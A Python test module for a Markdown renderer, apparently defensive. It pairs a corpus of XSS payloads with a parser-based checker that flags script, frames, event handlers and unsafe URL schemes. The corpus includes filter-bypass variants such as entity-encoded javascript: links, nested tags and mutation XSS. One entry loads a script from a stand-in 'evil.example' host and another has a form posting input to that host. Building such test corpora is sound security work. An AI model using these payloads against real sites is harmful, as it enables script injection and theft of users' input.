"""An XSS corpus for the renderer and the public page, and a checker that finds anything
in HTML that could run script, load a frame or restyle the page."""

from __future__ import annotations

from html.parser import HTMLParser

MARKDOWN_CORPUS = [
    "<script>alert('script tag')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('onerror')>",
    '<a href="#" onclick="alert(\'onclick\')">click</a>',
    "[link](javascript:alert('javascript link'))",
    "[link](JaVaScRiPt:alert('mixed case'))",
    "[link](java&#x09;script:alert('entity tab'))",
    "[link](&#106;avascript:alert('entity j'))",
    "[link](  javascript:alert('spaces'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](javascript:alert('img'))",
    "![x](x\" onerror=\"alert('quote break'))",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<svg onload=alert('svg')><circle r=5 /></svg>",
    "<math><mtext><script>alert('math')</script></mtext></math>",
    "<style>body { display: none }</style>",
    '<div style="position:fixed;inset:0;background:red">overlay</div>',
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "&lt;script&gt;alert('escaped')&lt;/script&gt;",
    "<scr<script>ipt>alert('nested')</script>",
    "<<script>script>alert('double')<</script>/script>",
    "<!--><script>alert('comment')</script>-->",
    "`<script>alert('code span')</script>`",
    "```html\n<script>alert('fence')</script>\n```",
    "```\"><script>alert('info')</script>\n```",
    "<details open ontoggle=alert('details')>",
    "<a href=\"vbscript:msgbox('vb')\">vb</a>",
    '<https://example.org/"onmouseover="alert(1)>',
    "[^1]\n\n[^1]: <img src=x onerror=alert('footnote')>",
    "| a |\n|---|\n| <img src=x onerror=alert('table')> |",
    "- [x] <script>alert('task')</script>",
    "# Heading <img src=x onerror=alert('heading')>",
    "<template><script>alert('template')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('mxss')>\">",
    '<a href="https://example.org" target="_blank">target</a>',
    "[ok](https://example.org/?q=<script>)",
]

FORBIDDEN_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "svg", "math",
        "form", "button", "textarea", "select", "meta", "base", "link", "template",
        "noscript", "applet", "audio", "video", "source", "track",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "srcset"})
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "target"):
                self.problems.append(f"<{tag} {name}>")
            scheme = ":" in value.split("/", 1)[0]
            if name in URL_ATTRIBUTES and scheme and not value.lower().startswith(SAFE_SCHEMES):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>")
            if tag == "input" and name == "type" and value != "checkbox":
                self.problems.append(f"<input type={value}>")


def problems(html: str) -> list[str]:
    """What in `html` could run script, frame or restyle the page (empty: nothing)."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.problems
